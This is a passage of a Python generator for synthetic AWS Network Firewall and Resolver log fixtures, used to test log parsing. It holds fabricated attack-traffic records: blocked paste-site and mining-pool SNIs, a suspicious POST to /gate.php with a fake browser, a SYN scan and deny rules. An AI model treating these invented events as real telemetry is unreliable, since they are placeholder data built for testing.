    # Routine traffic to finish the file: AWS endpoints and the app's own names.
    routine = [("ec2.us-east-1.amazonaws.com.", "203.0.113.120"),
               ("ssm.us-east-1.amazonaws.com.", "203.0.113.121"),
               ("logs.us-east-1.amazonaws.com.", "203.0.113.122"),
               ("api.example.com.", "192.0.2.44"), ("cdn.example.com.", "198.51.100.30"),
               ("monitoring.us-east-1.amazonaws.com.", "203.0.113.123"),
               ("sqs.us-east-1.amazonaws.com.", "203.0.113.124"),
               ("api.example.com.", "192.0.2.44")]
    for name, answer in routine:
        src, ids = from_instance()
        add(resolver_record(step(), name, "A", "NOERROR", [(answer, "A")], src, ids))
    return s


# ---- AWS Network Firewall ----------------------------------------------------------------------

NFW_FIELDS = spec_fields("network_firewall")
FIREWALL = "egress-fw"


def eve_time(value: datetime) -> str:
    """Suricata's EVE time: microseconds and an offset without a colon."""
    assert value.tzinfo is UTC
    return f"{value:%Y-%m-%dT%H:%M:%S.%f}+0000"


def cert_time(value: datetime) -> str:
    """Certificate validity as Suricata writes it: to the second, no zone."""
    return f"{value:%Y-%m-%dT%H:%M:%S}"


def nfw_record(logged: datetime, az: str, event: Record,
               category: list[str] | None = None) -> Record:
    rec: Record = {"firewall_name": FIREWALL, "availability_zone": az,
                   "event_timestamp": logged.replace(microsecond=0)}
    if category is not None:
        rec["aws_category"] = category
    rec["event"] = event
    return rec


def wire_nfw(rec: Record) -> Record:
    """What AWS writes: epoch seconds as a string outside, EVE times inside."""
    wire = copy.deepcopy(rec)
    wire["event_timestamp"] = str(epoch_s(rec["event_timestamp"]))
    event = wire["event"]
    event["timestamp"] = eve_time(rec["event"]["timestamp"])
    if event.get("netflow"):
        for key in ("start", "end"):
            event["netflow"][key] = eve_time(rec["event"]["netflow"][key])
    if event.get("tls"):
        for key in ("notbefore", "notafter"):
            if key in event["tls"]:
                event["tls"][key] = cert_time(rec["event"]["tls"][key])
    return wire


def flow_ids(rnd: random.Random) -> int:
    return rnd.randrange(10**14, 2 * 10**15)


def sample_nfw_alert() -> Sample:
    rnd = random.Random(6201)
    s = Sample(
        key=(f"AWSLogs/{ACCOUNT}/network-firewall/alert/{REGION}/{FIREWALL}/2026/11/21/00/"
             f"{ACCOUNT}_network-firewall_alert_{REGION}_{FIREWALL}_20261121T0005Z_3e4f5a6b.log.gz"),
        format="network_firewall",
        title=("Network Firewall alert log: blocked SNIs (TLS, some inspected), HTTP and DNS "
               "alerts with rule metadata, default-deny drops, ICMP, IPv6, a URL category rule, "
               "one damaged line"),
    )
    t = T0 + timedelta(minutes=5, seconds=4)

    def step() -> datetime:
        nonlocal t
        t += timedelta(microseconds=rnd.randint(200_000, 25_000_000))
        return t

    def add(rec: Record) -> None:
        s.add(compact(wire_nfw(rec)), complete(NFW_FIELDS, rec))

    def alert(action: str, sid: int, signature: str, severity: int = 3, rev: int = 1,  # noqa: PLR0917
              category: str = "", **more: Any) -> Record:
        return {"action": action, "signature_id": sid, "rev": rev, "signature": signature,
                "category": category, "severity": severity, **more}

    def event(seen: datetime, src: tuple[str, int | None], dst: tuple[str, int | None],
              proto: str, **more: Any) -> Record:
        ev: Record = {"timestamp": seen, "flow_id": flow_ids(rnd), "event_type": "alert",
                      "src_ip": src[0]}
        if src[1] is not None:
            ev["src_port"] = src[1]
        ev["dest_ip"] = dst[0]
        if dst[1] is not None:
            ev["dest_port"] = dst[1]
        ev["proto"] = proto
        ev.update(more)
        return ev

    hosts = ["10.0.1.23", "10.0.1.57", "10.0.2.10", "10.0.2.44"]
    # Allow-listed SNIs passed with an alert keyword (logged, allowed), TLS inspected.
    for sni, dst in [("ssm.us-east-1.amazonaws.com", "203.0.113.121"),
                     ("api.example.com", "192.0.2.44")]:
        seen = step()
        add(nfw_record(seen + timedelta(seconds=1), f"{REGION}a", event(
            seen, (rnd.choice(hosts), rnd.randint(32768, 60999)), (dst, 443), "TCP",
            alert=alert("allowed", 202307052, f"Allowed SNI {sni}", rev=2),
            app_proto="tls", tls_inspected=True,
            tls={"sni": sni, "version": "TLS 1.3", "ja3": {}, "ja3s": {}},
            direction="to_server")))

    # Blocked SNIs: domain list deny and a reject rule; certificate details on one.
    for sni, dst, sid in [("pastebin.example.net", "198.51.100.201", 1457),
                          ("mining-pool.example.org", "198.51.100.202", 1457)]:
        seen = step()
        add(nfw_record(seen + timedelta(seconds=1), f"{REGION}b", event(
            seen, (rnd.choice(hosts), rnd.randint(32768, 60999)), (dst, 443), "TCP",
            alert=alert("blocked", sid, "Domain blocked", severity=1),
            app_proto="tls", tls={"sni": sni, "version": "TLS 1.2",
                                  "ja3": {"hash": JA3["curl"], "string": "771,4866-4867,0-11"},
                                  "ja3s": {}},
            direction="to_server")))
    seen = step()
    add(nfw_record(seen + timedelta(seconds=2), f"{REGION}a", event(
        seen, ("203.0.113.9", 443), ("10.0.2.44", rnd.randint(32768, 60999)), "TCP",
        alert=alert("blocked", 897972, "Block all other cert issuers not allowed by sid:29822"),
        app_proto="tls",
        tls={"subject": "CN=files.example.org", "issuerdn": "C=US, O=Example CA, CN=Example R1",
             "serial": "4A:1F:00:9C:22:D3:61:0B", "sni": "files.example.org",
             "fingerprint": "3f:a2:19:8b:0c:44:d1:7e:52:61:90:ab:cd:ef:01:23:45:67:89:0a",
             "version": "TLS 1.2", "notbefore": datetime(2026, 9, 1, tzinfo=UTC),
             "notafter": datetime(2026, 11, 30, 23, 59, 59, tzinfo=UTC),
             "ja3": {}, "ja3s": {"hash": "15af977ce25de452b96affa2addb1036",
                                 "string": "771,49199,65281-0-11"}},
        direction="to_client")))

    # An Emerging Threats rule on HTTP, with rule metadata.
    seen = step()
    add(nfw_record(seen + timedelta(seconds=1), f"{REGION}b", event(
        seen, ("10.0.1.57", rnd.randint(32768, 60999)), ("198.51.100.77", 80), "TCP",
        alert=alert("allowed", 2018358, "ET HUNTING GENERIC SUSPICIOUS POST to Dotted Quad "
                    "with Fake Browser 1", severity=2, rev=10, gid=1,
                    category="Potentially Bad Traffic",
                    metadata={"created_at": ["2014_04_03"], "updated_at": ["2024_03_12"],
                              "signature_severity": ["Informational"]}),
        app_proto="http",
        http={"hostname": "198.51.100.77", "url": "/gate.php", "http_method": "POST",
              "http_user_agent": "Mozilla/4.0 (compatible; MSIE 6.0)", "protocol": "HTTP/1.1",
              "length": 0},
        tx_id=0, direction="to_server")))

    # Damaged: the line was cut short.
    seen = step()
    whole = compact(wire_nfw(nfw_record(seen, f"{REGION}a", event(
        seen, ("10.0.1.23", 51000), ("192.0.2.10", 22), "TCP",
        alert=alert("blocked", 2171010, "Block use of SSH protocol on non-standard port")))))
    s.broken(whole[:120], NOT_JSON)

    # Default-deny drops (TCP, UDP, ICMP without ports), IPv6.
    drops = [(("10.0.2.10", 41822), ("192.0.2.200", 3389), "TCP", 202308171,
              "Default Egress TCP block to server"),
             (("10.0.1.23", 52044), ("198.51.100.53", 53), "UDP", 202308172,
              "Default Egress UDP block"),
             (("10.0.1.57", None), ("203.0.113.1", None), "ICMP", 202308177,
              "Default Egress ICMP block"),
             (("2001:db8:10::2a", 50112), ("2001:db8:ffff::10", 8443), "TCP", 202308171,
              "Default Egress TCP block to server")]
    for client, server, proto, sid, msg in drops:
        seen = step()
        extra: dict[str, Any] = {"icmp_type": 8, "icmp_code": 0} if proto == "ICMP" else {}
        add(nfw_record(seen + timedelta(seconds=1), f"{REGION}b", event(
            seen, client, server, proto, alert=alert("blocked", sid, msg), **extra)))

    # DNS query alert.
    seen = step()
    add(nfw_record(seen + timedelta(seconds=1), f"{REGION}a", event(
        seen, ("10.0.2.44", 50023), ("198.51.100.53", 53), "UDP",
        alert=alert("allowed", 118947, "Pass rules do not alert", severity=3),
        app_proto="dns",
        dns={"query": [{"type": "query", "id": 4401, "rrname": "status.example.com",
                        "rrtype": "A", "tx_id": 0}]})))

    # URL category rules (TLS inspected): the matched categories come outside the event.
    for sni, cats in [("games.example.com", ["Gambling"]),
                      ("news.example.org", ["News and Media", "Technology and Internet"])]:
        seen = step()
        add(nfw_record(seen + timedelta(seconds=1), f"{REGION}a", event(
            seen, (rnd.choice(hosts), rnd.randint(32768, 60999)), ("192.0.2.80", 443), "TCP",
            alert=alert("blocked" if cats == ["Gambling"] else "allowed", 3001001,
                        "URL category rule"),
            app_proto="tls", tls_inspected=True,
            tls={"sni": sni, "version": "TLS 1.3", "ja3": {}, "ja3s": {}}), category=cats))

    # A few more allowed SNIs.
    for sni in ["s3.us-east-1.amazonaws.com", "logs.us-east-1.amazonaws.com",
                "monitoring.us-east-1.amazonaws.com"]:
        seen = step()
        add(nfw_record(seen + timedelta(seconds=1), f"{REGION}b", event(
            seen, (rnd.choice(hosts), rnd.randint(32768, 60999)), ("203.0.113.120", 443), "TCP",
            alert=alert("allowed", 202307052, f"Allowed SNI {sni}", rev=2),
            app_proto="tls", tls={"sni": sni, "version": "TLS 1.3", "ja3": {}, "ja3s": {}})))
    return s


def sample_nfw_flow() -> Sample:
    rnd = random.Random(6202)
    s = Sample(
        key=(f"AWSLogs/{ACCOUNT}/network-firewall/flow/{REGION}/{FIREWALL}/2026/11/21/00/"
             f"{ACCOUNT}_network-firewall_flow_{REGION}_{FIREWALL}_20261121T0005Z_7c8d9e0f.log.gz"),
        format="network_firewall",
        title=("Network Firewall flow log: both directions of TCP (HTTPS, SSH), UDP (DNS, NTP) "
               "and ICMP flows, TCP flags, IPv6, one value of the wrong type"),
    )
    t = T0 + timedelta(minutes=5, seconds=1)

    def add(rec: Record) -> None:
        s.add(compact(wire_nfw(rec)), complete(NFW_FIELDS, rec))

    def flow(client: tuple[str, int | None], server: tuple[str, int | None], proto: str,  # noqa: PLR0917
             app: str | None, packets: tuple[int, int], sizes: tuple[int, int],
             seconds: float, ttl: tuple[int, int], tcp: tuple[Record, Record] | None = None,
             az: str = f"{REGION}a") -> list[Record]:
        """Both directions of one flow: same flow_id, logged when the flow timed out."""
        nonlocal t
        t += timedelta(microseconds=rnd.randint(100_000, 20_000_000))
        start = t
        end = start + timedelta(seconds=seconds)
        logged = end + timedelta(seconds=rnd.randint(30, 120))
        fid = flow_ids(rnd)
        out = []
        for n, (src, dst) in enumerate([(client, server), (server, client)]):
            ev: Record = {"timestamp": logged + timedelta(microseconds=rnd.randint(1, 900)),
                          "flow_id": fid, "event_type": "netflow", "src_ip": src[0]}
            if src[1] is not None:
                ev["src_port"] = src[1]
            ev["dest_ip"] = dst[0]
            if dst[1] is not None:
                ev["dest_port"] = dst[1]
            ev["proto"] = proto
            if app:
                ev["app_proto"] = app
            pkts = packets[n]
            ev["netflow"] = {"pkts": pkts, "bytes": pkts * sizes[n], "start": start,
                             "end": end if pkts > 1 else start, "age": int(seconds),
                             "min_ttl": ttl[n], "max_ttl": ttl[n]}
            if tcp is not None:
                ev["tcp"] = dict(tcp[n])
            out.append(nfw_record(logged + timedelta(seconds=1), az, ev))
        return out

    def tcp_flags(hexflags: str, *names: str) -> Record:
        return {"tcp_flags": hexflags, **{name: True for name in names}}

    done = tcp_flags("1b", "syn", "fin", "psh", "ack")
    full = (done, dict(done))
    records: list[Record] = []
    records += flow(("10.0.1.23", 52110), ("203.0.113.121", 443), "TCP", "tls", (14, 12),
                    (180, 1100), 3.2, (63, 236), full)
    records += flow(("10.0.1.57", 40312), ("192.0.2.44", 443), "TCP", "tls", (22, 31),
                    (150, 1350), 12.7, (63, 241), full, f"{REGION}b")
    records += flow(("10.0.2.10", 51515), ("198.51.100.53", 53), "UDP", "dns", (1, 1),
                    (74, 118), 0, (63, 52))
    records += flow(("10.0.2.44", 123), ("203.0.113.123", 123), "UDP", None, (1, 1),
                    (76, 76), 0, (63, 56))
    records += flow(("10.0.1.23", None), ("192.0.2.1", None), "ICMP", None, (4, 4),
                    (84, 84), 3.0, (64, 57))
    # A SYN scan answered with nothing: one direction only, no app protocol.
    records += flow(("198.51.100.66", 61953), ("10.0.2.10", 5060), "TCP", "failed", (1, 0),
                    (40, 0), 0, (221, 0), (tcp_flags("02", "syn"), tcp_flags("00")))[:1]
    records += flow(("2001:db8:10::2a", 50112), ("2001:db8:1::80", 443), "TCP", "tls", (9, 8),
                    (200, 900), 1.4, (64, 58), full)
    records += flow(("10.0.1.57", 44022), ("203.0.113.70", 22), "TCP", "ssh", (120, 140),
                    (120, 260), 95.0, (63, 240), full, f"{REGION}b")
    records += flow(("10.0.2.44", 38811), ("203.0.113.120", 443), "TCP", "tls", (40, 62),
                    (160, 1400), 21.9, (63, 237), full)
    for rec in records[:9]:
        add(rec)
    # Damaged: a flow id that is not a number.
    bad = wire_nfw(records[9])
    bad["event"]["flow_id"] = "abc"
    s.broken(compact(bad), "flow_id")
    for rec in records[10:]:
        add(rec)
    return s


# TLS logs come from AWS's TLS inspection engine, not from Suricata, and are written differently
# (https://docs.aws.amazon.com/network-firewall/latest/developerguide/tls-inspection-logging.html):
# `event_timestamp` is a JSON number, the event's time ends in `Z`, ports are strings, there is no
# event type, flow id or protocol, and `sni` is `-` when the Client Hello carried none.

NO_SNI = "Server name is not found in client hello."


def sni_mismatch(sni: str, names: Sequence[str]) -> str:
    """The error AWS logs for an SNI that matches none of the certificate's names (its subject
    common name first, then the alternative names), ending in a space as in AWS's examples."""
    return f"SNI: {sni} Match Failed to server certificate names: {'/'.join(names)} "


def tls_time(value: datetime) -> str:
    """The TLS engine's event time: microseconds and ``Z``."""
    assert value.tzinfo is UTC
    return f"{value:%Y-%m-%dT%H:%M:%S.%f}Z"


def tls_event(seen: datetime, src: tuple[str, int], dst: tuple[str, int], sni: str | None,
              **detail: Record) -> Record:
    """A TLS log event as typed values (``sni=None`` is written ``-``); ``detail`` is
    ``tls_error`` or ``revocation_check``."""
    assert len(detail) == 1 and set(detail) <= {"tls_error", "revocation_check"}, detail
    return {"timestamp": seen, "src_ip": src[0], "src_port": src[1], "dest_ip": dst[0],
            "dest_port": dst[1], "sni": sni, **detail}


def wire_nfw_tls(rec: Record) -> Record:
    """What AWS writes for a TLS event, keys in the order of AWS's examples: a TLS error lists
    the time first; a revocation check lists it after the addresses."""
    ev = rec["event"]
    ports = {"src_port": str(ev["src_port"]), "dest_port": str(ev["dest_port"])}
    sni = "-" if ev["sni"] is None else ev["sni"]
    if "tls_error" in ev:
        event = {"timestamp": tls_time(ev["timestamp"]), "src_ip": ev["src_ip"],
                 "src_port": ports["src_port"], "dest_ip": ev["dest_ip"],
                 "dest_port": ports["dest_port"], "sni": sni,
                 "tls_error": dict(ev["tls_error"])}
    else:
        event = {"src_ip": ev["src_ip"], "src_port": ports["src_port"],
                 "revocation_check": dict(ev["revocation_check"]), "dest_ip": ev["dest_ip"],
                 "dest_port": ports["dest_port"], "timestamp": tls_time(ev["timestamp"]),
                 "sni": sni}
    return {"firewall_name": rec["firewall_name"], "availability_zone": rec["availability_zone"],
            "event_timestamp": epoch_s(rec["event_timestamp"]), "event": event}


def sample_nfw_tls() -> Sample:
    rnd = random.Random(6203)
    s = Sample(
        key=(f"AWSLogs/{ACCOUNT}/network-firewall/tls/{REGION}/{FIREWALL}/2026/11/21/00/"
             f"{ACCOUNT}_network-firewall_tls_{REGION}_{FIREWALL}_20261121T0005Z_9a8b7c6d.log.gz"),
        format="network_firewall",
        title=("Network Firewall TLS log: Client Hellos without SNI, SNIs matching no name of the "
               "server certificate, server certificates revoked or of unknown status (passed, "
               "dropped, rejected), an IPv6 client, one value of the wrong type"),
    )
    t = T0 + timedelta(minutes=5, seconds=2)
    clients = ["10.0.1.23", "10.0.1.57", "10.0.2.10", "10.0.2.44", "2001:db8:10::2a"]

    def client(n: int | None = None) -> tuple[str, int]:
        return clients[rnd.randrange(4) if n is None else n], rnd.randint(32768, 60999)

    def add(server: tuple[str, int], sni: str | None, src: tuple[str, int] | None = None,
            **detail: Record) -> None:
        nonlocal t
        t += timedelta(microseconds=rnd.randint(300_000, 30_000_000))
        rec = nfw_record(t, f"{REGION}{rnd.choice('ab')}",
                         tls_event(t, src or client(), server, sni, **detail))
        s.add(compact(wire_nfw_tls(rec)), complete(NFW_FIELDS, rec))

    def error(message: str) -> Record:
        return {"error_message": message}

    def revoked(status: str, action: str) -> Record:
        return {"leaf_cert_fpr": f"{rnd.getrandbits(256):064X}", "status": status,
                "action": action}

    # Clients that send no SNI (scripts connecting to an address).
    add(("203.0.113.44", 443), None, tls_error=error(NO_SNI))
    add(("198.51.100.19", 8443), None, tls_error=error(NO_SNI))
    # SNIs that the server's certificate does not cover.
    add(("192.0.2.60", 443), "api.example.com",
        tls_error=error(sni_mismatch("api.example.com",
                                     ["shop.example.net", "shop.example.net",
                                      "www.shop.example.net"])))
    add(("203.0.113.87", 444), "legacy.example.org",
        tls_error=error(sni_mismatch("legacy.example.org",
                                     ["*.hosting.example", "*.hosting.example"])))
    # Revocation checks that failed: revoked certificates, and ones whose status the firewall
    # could not learn (OCSP / CRL endpoints unreachable); actions as the TLS configuration says.
    add(("198.51.100.140", 443), "revoked.example.org",
        revocation_check=revoked("REVOKED", "DROP"))
    add(("198.51.100.140", 443), "revoked.example.org",
        revocation_check=revoked("REVOKED", "DROP"))
    add(("203.0.113.201", 443), "downloads.example.net",
        revocation_check=revoked("REVOKED", "REJECT"))
    add(("192.0.2.77", 443), "status-unknown.example.com",
        revocation_check=revoked("UNKNOWN", "PASS"))
    add(("2001:db8:ffff::443", 443), "cdn.example.com", client(4),
        revocation_check=revoked("UNKNOWN", "PASS"))
    # Damaged: a service name where AWS writes the port number.
    t += timedelta(seconds=3)
    bad = wire_nfw_tls(nfw_record(t, f"{REGION}a", tls_event(
        t, client(), ("192.0.2.77", 443), "status-unknown.example.com",
        revocation_check=revoked("UNKNOWN", "PASS"))))
    bad["event"]["dest_port"] = "https"
    s.broken(compact(bad), "dest_port")
    add(("203.0.113.9", 443), "files.example.org", revocation_check=revoked("UNKNOWN", "DROP"))
    add(("198.51.100.33", 443), None, tls_error=error(NO_SNI))
    add(("192.0.2.60", 443), "www.example.com",
        tls_error=error(sni_mismatch("www.example.com",
                                     ["shop.example.net", "shop.example.net",
                                      "www.shop.example.net"])))
    return s


# ---- all samples -------------------------------------------------------------------------------


def build() -> list[Sample]:
    """Every security sample: two WAF files, one Route 53 Resolver file, Network Firewall alert,
    flow and TLS files."""
    samples = [sample_waf_regional(), sample_waf_cloudfront(), sample_resolver(),
               sample_nfw_alert(), sample_nfw_flow(), sample_nfw_tls()]
    keys = [s.key for s in samples]
    assert len(set(keys)) == len(keys)
    for s in samples:
        assert 10 <= len(s.records) <= 40 and 1 <= len(s.errors) <= 2, (s.key, s.stats())
        units = sorted([n for n, _ in s.records] + [n for n, _, _ in s.errors])
        assert units == list(range(1, len(s.lines) + 1)), s.key
    return samples


def stored(sample: Sample) -> bytes:
    """A sample's bytes on disk: gzip with mtime 0 (reproducible) or plain text."""
    data = sample.data()
    return gzip.compress(data, mtime=0) if sample.compressed else data


def write(root: Path, samples: list[Sample] | None = None) -> list[Path]:
    """Write every sample under ``root``; files whose content is unchanged are left alone."""
    paths = []
    for s in samples or build():
        path = root / s.key
        paths.append(path)
        if path.exists():
            raw = path.read_bytes()
            if (gzip.decompress(raw) if s.compressed else raw) == s.data():
                continue
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(stored(s))
        print(f"wrote {path} ({len(s.lines)} lines)")
    return paths


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=HERE,
                        help="folder to write the sample tree under (default: samples/)")
    args = parser.parse_args(argv)
    write(args.out)
    return 0


if __name__ == "__main__":
    sys.exit(main())
